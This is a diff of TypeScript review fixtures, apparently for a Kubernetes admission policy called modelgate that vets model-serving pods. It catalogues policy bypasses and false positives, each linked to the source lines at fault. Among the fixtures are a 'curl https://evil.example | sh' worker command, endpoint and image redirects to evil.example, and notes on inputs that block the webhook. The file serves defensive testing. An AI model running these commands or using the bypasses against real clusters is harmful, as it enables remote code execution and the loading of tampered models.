+      command: ['vllm', 'serve', '/models/m', '--enable-lora'],
+      envFrom: [{ configMapRef: { name: 'c' } }],
+      env: [{ name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING', value: '$(X)' }],
+    }),
+    'the kubelet expands env values with envFrom variables too: runtime LoRA loading, as in H47',
+    'src/workloads/env.ts:83 (expands env values from explicit env only, not from envFrom)',
+  ),
+
+  // ── cache-location: a persistent Hugging Face cache modelgate does not see ────────────────────────
+  hole(
+    'H49',
+    'cache-location',
+    'a PVC mounted at /root holds ~/.cache/huggingface',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          volumeMounts: [{ name: 'h', mountPath: '/root' }],
+        },
+      ],
+      volumes: [{ name: 'h', persistentVolumeClaim: { claimName: 'home' } }],
+    }),
+    'files pre-placed under snapshots/<commit>/ are loaded as example-org/llama@<commit>',
+    'src/workloads/container.ts:447 (only mounts ending in /.cache[/huggingface[/hub]] are checked, not their parents)',
+  ),
+  hole(
+    'H50',
+    'cache-location',
+    'HOME on a PVC',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          env: [{ name: 'HOME', value: '/data' }],
+          volumeMounts: [{ name: 'h', mountPath: '/data' }],
+        },
+      ],
+      volumes: [{ name: 'h', persistentVolumeClaim: { claimName: 'home' } }],
+    }),
+    'the HF cache (~/.cache/huggingface) lives on the PVC: pre-placed snapshots load under the pinned name',
+    'src/workloads/servers.ts:90-111 (HOME is not a cache variable)',
+  ),
+  hole(
+    'H51',
+    'cache-location',
+    'HF_HOME=$(X) from a ConfigMap points at a PVC',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          env: [
+            { name: 'X', valueFrom: { configMapKeyRef: { name: 'c', key: 'k' } } },
+            { name: 'HF_HOME', value: '$(X)' },
+          ],
+          volumeMounts: [{ name: 'h', mountPath: '/data' }],
+        },
+      ],
+      volumes: [{ name: 'h', persistentVolumeClaim: { claimName: 'home' } }],
+    }),
+    'the kubelet sets HF_HOME=/data: the cache lives on the PVC, as in H49',
+    'src/workloads/env.ts:83 + src/workloads/container.ts:529 (a cache value that is not an absolute path is ignored)',
+  ),
+
+  // ── update-relaxation ──────────────────────────────────────────────────────────────────────────────
+  hole(
+    'H52',
+    'update-relaxation',
+    'UPDATE of an annotation that a fieldRef turns into HF_ENDPOINT is "unchanged"',
+    endpointPod('https://evil.example'),
+    'relaxed to a warning; the next container restart reads the new endpoint (the kubelet recomputes fieldRef env)',
+    "src/policy/decide.ts:119-128 (the fingerprint omits the containers' unreadable inputs and the metadata fieldRefs read)",
+    { operation: 'UPDATE', oldObject: endpointPod('https://huggingface.co') },
+  ),
+  hole(
+    'H53',
+    'update-relaxation',
+    'UPDATE of a label that a fieldRef turns into VLLM_ALLOW_RUNTIME_LORA_UPDATING',
+    loraLabelPod('true'),
+    'runtime LoRA loading after the next restart',
+    'as H52',
+    { operation: 'UPDATE', oldObject: loraLabelPod('false') },
+  ),
+
+  // ── object-level: what KServe will run is not what modelgate read on the object ────────────────────
+  // These matter where the pods themselves are not checked (policy match.kinds narrowed to
+  // InferenceService), and for `modelgate check` and the audit, which judge the object.
+  hole(
+    'H54',
+    'object-level',
+    'InferenceService predictor.model carries container fields (args)',
+    isvc({
+      predictor: {
+        model: {
+          modelFormat: { name: 'huggingface' },
+          storageUri: `hf://example-org/llama:${C}`,
+          args: ['--model_id=evil-org/x'],
+        },
+      },
+    }),
+    'KServe merges model.args into the runtime container: it serves evil-org/x',
+    'src/workloads/extract.ts:304-325 (reads only storageUri/storage of predictor.model and the framework specs, which embed a whole container: image, command, args, env, envFrom, volumeMounts)',
+  ),
+  hole(
+    'H55',
+    'object-level',
+    'InferenceService predictor.huggingface with its own image and env',
+    isvc({
+      predictor: {
+        huggingface: {
+          storageUri: `hf://example-org/llama:${C}`,
+          image: 'evil.example/anything:latest',
+          env: [{ name: 'HF_ENDPOINT', value: 'https://evil.example' }],
+        },
+      },
+    }),
+    'any image and any environment for the server',
+    'as H54',
+  ),
+  hole(
+    'H56',
+    'object-level',
+    'InferenceService predictor.workerSpec (multi-node) containers are never read',
+    isvc({
+      predictor: {
+        model: { modelFormat: { name: 'huggingface' }, storageUri: `hf://example-org/llama:${C}` },
+        workerSpec: {
+          containers: [
+            {
+              name: 'worker-container',
+              image: 'evil.example/x:latest',
+              command: ['sh', '-c', 'curl https://evil.example | sh'],
+            },
+          ],
+        },
+      },
+    }),
+    'an unaccounted container in every worker pod',
+    'src/workloads/pod.ts:30-38 (components only; workerSpec is a pod spec of its own)',
+  ),
+  hole(
+    'H57',
+    'object-level',
+    'InferenceService on a ServingRuntime the namespace wrote',
+    isvc({
+      predictor: {
+        model: {
+          modelFormat: { name: 'huggingface' },
+          runtime: 'my-runtime',
+          storageUri: `hf://example-org/llama:${C}`,
+        },
+      },
+    }),
+    'the ServingRuntime (namespaced, editable by the deployer; also auto-selected by modelFormat) defines the container',
+    'src/workloads/extract.ts:414-422 (a component without containers is taken as fully accounted)',
+  ),
+  hole(
+    'H58',
+    'object-level',
+    "InferenceService transformer's PVC has the same name as the predictor's image volume",
+    isvc({
+      predictor: {
+        containers: [
+          { name: 'kserve-container', image: VLLM, args: ['--model', '/models/m'], volumeMounts: ro },
+        ],
+        volumes: [modelVol],
+      },
+      transformer: {
+        containers: [{ name: 't', image: VLLM, args: ['--model', '/models/m'], volumeMounts: ro }],
+        volumes: [{ name: 'm', persistentVolumeClaim: { claimName: 'scratch' } }],
+      },
+    }),
+    "the transformer's PVC model is judged as the predictor's digest-pinned image",
+    "src/workloads/extract.ts:172-174,276 (forVolume matches by volume name across all pod specs); also the annotation's declared volumes (extract.ts:424-425)",
+  ),
+
+  hole(
+    'H61',
+    'object-level',
+    'high-sensitivity InferenceService: predictor on SEV-SNP, its multi-node workers anywhere',
+    {
+      apiVersion: 'serving.kserve.io/v1beta1',
+      kind: 'InferenceService',
+      metadata: { name: 'i', namespace: 'secure' },
+      spec: {
+        predictor: {
+          runtimeClassName: 'kata-qemu-snp',
+          nodeSelector: { 'feature.node.kubernetes.io/cpu-security.sev.snp.enabled': 'true' },
+          containers: [
+            {
+              name: 'kserve-container',
+              image: VLLM,
+              args: ['--model', '/models/m', '--tensor-parallel-size', '8'],
+              volumeMounts: ro,
+            },
+          ],
+          volumes: [modelVol],
+          workerSpec: {
+            containers: [
+              {
+                name: 'worker-container',
+                image: VLLM,
+                command: ['ray', 'start', '--block'],
+                volumeMounts: ro,
+              },
+            ],
+            volumes: [modelVol],
+          },
+        },
+      },
+    },
+    'the worker pods hold shards of a high-sensitivity model on ordinary nodes (no runtime class, no TEE node labels)',
+    'as H56 (src/workloads/pod.ts:30-38): confidential placement is checked per pod spec found, and workerSpec is not found',
+  ),
+
+  hole(
+    'H62',
+    'object-level',
+    "a pod template's fieldRef metadata.name is resolved to the controller's own name",
+    {
+      apiVersion: 'apps/v1',
+      kind: 'StatefulSet',
+      metadata: { name: 'llm', namespace: 'prod' },
+      spec: {
+        serviceName: 'llm',
+        selector: { matchLabels: { app: 'llm' } },
+        template: {
+          metadata: { labels: { app: 'llm' } },
+          spec: {
+            containers: [
+              {
+                name: 'server',
+                image: VLLM,
+                args: ['--model', '/models/$(POD_NAME)'],
+                env: [{ name: 'POD_NAME', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }],
+                volumeMounts: [
+                  { name: 'm', mountPath: '/models/llm', readOnly: true },
+                  { name: 'w', mountPath: '/models', readOnly: true },
+                ],
+              },
+            ],
+            volumes: [modelVol, scratch],
+          },
+        },
+      },
+    },
+    'modelgate reads /models/llm (the image volume); the pods are llm-0, llm-1, ...: /models/llm-0 is on the PVC',
+    "src/workloads/env.ts:47-49 with src/workloads/extract.ts:379 (a template's pod meta inherits the object's name; labels and annotations of the object are merged in too, although pods get only the template's)",
+  ),
+
+  // ── cross-pod-integrity ────────────────────────────────────────────────────────────────────────────
+  hole(
+    'H59',
+    'cross-pod-integrity',
+    'a pod with no verified volume may mount /var/lib/kubelet and run privileged',
+    pod('prod', {
+      containers: [
+        { name: 'server', image: VLLM, command: ['vllm', 'serve', 'example-org/llama', '--revision', C] },
+        {
+          name: 'istio-proxy',
+          image: ISTIO,
+          securityContext: { privileged: true },
+          volumeMounts: [{ name: 'k', mountPath: '/host' }],
+        },
+      ],
+      volumes: [{ name: 'k', hostPath: { path: '/var/lib/kubelet' } }],
+    }),
+    "rewrites other pods' verified volumes on the node after their verifier ran",
+    'src/policy/checks/integrity.ts:51 (host paths into the kubelet/runtime and privilege are judged only in pods that have a verified volume)',
+  ),
+];
+
+function endpointPod(ep: string): Obj {
+  return pod(
+    'prod',
+    {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          env: [
+            { name: 'HF_ENDPOINT', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['ep']" } } },
+          ],
+        },
+      ],
+    },
+    { annotations: { ep } },
+  );
+}
+
+function loraLabelPod(v: string): Obj {
+  return vllmPod(
+    'prod',
+    {
+      command: ['vllm', 'serve', '/models/m', '--enable-lora'],
+      env: [
+        {
+          name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING',
+          valueFrom: { fieldRef: { fieldPath: "metadata.labels['lora']" } },
+        },
+      ],
+    },
+    [],
+    { labels: { lora: v } },
+  );
+}
+
+const falsePositive = (
+  id: string,
+  name: string,
+  object: Obj,
+  achieves: string,
+  cause: string,
+): ReviewCase => ({
+  id,
+  class: 'false-positive',
+  name,
+  object,
+  now: 'refused',
+  want: 'admitted',
+  achieves,
+  cause,
+});
+
+export const FALSE_POSITIVES: ReviewCase[] = [
+  falsePositive(
+    'FP01',
+    'vLLM --model X --disable-log-requests --port 8000',
+    vllmPod('prod', {
+      command: ['vllm', 'serve'],
+      args: ['--model', '/models/m', '--disable-log-requests', '--port', '8000'],
+    }),
+    'a common manifest; --disable-log-requests takes no value',
+    'src/workloads/servers.ts:178 (eats "--port", then "8000" is read as the positional model)',
+  ),
+  falsePositive(
+    'FP02',
+    'nice -n 10 vllm serve',
+    vllmPod('prod', { command: ['nice', '-n', '10', 'vllm', 'serve', '/models/m'] }),
+    'docs/policy.md says launchers such as nice are read through',
+    'src/workloads/argv.ts:102-107 (launcher options that take a value: nice -n, stdbuf -o, tini -e, dumb-init --rewrite, env -S; numactl, taskset, timeout are not launchers)',
+  ),
+  falsePositive(
+    'FP03',
+    'StatefulSet whose model is on a volumeClaimTemplate, declared',
+    {
+      apiVersion: 'apps/v1',
+      kind: 'StatefulSet',
+      metadata: { name: 'ss', namespace: 'prod' },
+      spec: {
+        serviceName: 'ss',
+        selector: { matchLabels: { app: 'ss' } },
+        template: {
+          metadata: {
+            labels: { app: 'ss' },
+            ...annotate([{ name: 'm', volume: 'weights', digest: SIGNED }]),
+          },
+          spec: {
+            containers: [
+              {
+                name: 'server',
+                image: VLLM,
+                args: ['--model', '/models/m'],
+                volumeMounts: [{ name: 'weights', mountPath: '/models/m', readOnly: true }],
+              },
+            ],
+          },
+        },
+        volumeClaimTemplates: [
+          {
+            metadata: { name: 'weights' },
+            spec: { accessModes: ['ReadOnlyMany'], resources: { requests: { storage: '20Gi' } } },
+          },
+        ],
+      },
+    },
+    'StatefulSets are a supported kind; their per-pod claims are volumes of the pods (name <tpl>-<sts>-<n>)',
+    'src/workloads/pod.ts:20-25 and src/workloads/extract.ts:424-433 (volumeClaimTemplates are not volumes)',
+  ),
+  falsePositive(
+    'FP04',
+    'TorchServe --models name=file.mar relative to --model-store',
+    pod('prod', {
+      containers: [
+        {
+          name: 'ts',
+          image: img('pytorch/torchserve'),
+          command: [
+            'torchserve',
+            '--foreground',
+            '--model-store',
+            '/models/m',
+            '--models',
+            'densenet=densenet161.mar',
+          ],
+          volumeMounts: ro,
+        },
+      ],
+      volumes: [modelVol],
+    }),
+    'TorchServe resolves a relative .mar in the model store (the verified volume); "--models all" likewise',
+    'src/workloads/container.ts:671-674 (read as a file of the server image)',
+  ),
+  falsePositive(
+    'FP05',
+    'vLLM --lora-modules JSON with base_model_name',
+    vllmPod('prod', {
+      command: [
+        'vllm',
+        'serve',
+        '/models/m',
+        '--enable-lora',
+        '--lora-modules',
+        '{"name": "sql", "path": "/models/m/lora", "base_model_name": "meta-llama/Llama-2-7b"}',
+      ],
+    }),
+    'base_model_name is a label in /v1/models, nothing is loaded from it',
+    'src/workloads/command-line.ts:239 (base_model_name listed among the path keys)',
+  ),
+  falsePositive(
+    'FP06',
+    'vLLM flags in underscore form (--max_model_len)',
+    vllmPod('prod', { command: ['vllm', 'serve', '/models/m', '--max_model_len', '4096'] }),
+    "vLLM's FlexibleArgumentParser turns underscores into dashes",
+    'src/workloads/servers.ts:121-193 (the vLLM grammar lacks underscoresAreDashes), so MODEL_ISH fires',
+  ),
+  falsePositive(
+    'FP07',
+    'KServe storage initializer with S3_ENDPOINT=s3.amazonaws.com (no verifier)',
+    pod(
+      'tee',
+      {
+        initContainers: [
+          {
+            name: 'storage-initializer',
+            image: SI,
+            args: [`s3://models-prod/llama`, '/mnt/models'],
+            env: [
+              { name: 'S3_ENDPOINT', value: 's3.amazonaws.com' },
+              { name: 'S3_USE_HTTPS', value: '1' },
+            ],
+            volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
+          },
+        ],
+        containers: [
+          {
+            name: 'kserve-container',
+            image: HFS,
+            args: ['--model_dir=/mnt/models'],
+            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
+          },
+        ],
+        volumes: [{ name: 'k', emptyDir: {} }],
+      },
+      annotate([{ name: 'm', volume: 'k', digest: SIGNED }]),
+    ),
+    "KServe's S3 secret annotations set the AWS default endpoint; tee refuses it for the redirect (and, rightly, for the unverified declared digest)",
+    'src/workloads/servers.ts:114-119 (DEFAULT_ENDPOINTS has no S3/GCS defaults)',
+  ),
+  falsePositive(
+    'FP08',
+    'vLLM --generation-config vllm',
+    vllmPod('prod', { command: ['vllm', 'serve', '/models/m', '--generation-config', 'vllm'] }),
+    'the value is a keyword (auto|vllm) in most manifests; a folder path would be a real input',
+    'src/workloads/command-line.ts:42-43 (MODEL_ISH on "config"); same for --ssl-keyfile, --model-impl, --tokenizer-pool-size',
+  ),
+];
+
+/** Every case, holes first. */
+export const REVIEW_CASES: ReviewCase[] = [...HOLES, ...FALSE_POSITIVES];
+
+// Not in the suite (no timing thresholds in tests); measured on this (shared, loaded) machine at bf9489f:
+//  - one expansion of an env value or argument "$(" x 500,000 (1 MB): 9.7 s, and every decision expands
+//    it again (validate + check + audit of one UPDATE: 40 s) — quadratic, indexOf(")") from every "$("
+//    (src/workloads/argv.ts:39); the webhook's event loop is blocked for every other request meanwhile;
+//  - 8,000 hostPath volumes (400 KB) beside one declared model: 7.8 s for the harness's four decisions —
+//    quadratic pairwise hostPath loop with a linear includes() inside (src/policy/checks/integrity.ts:148-159).
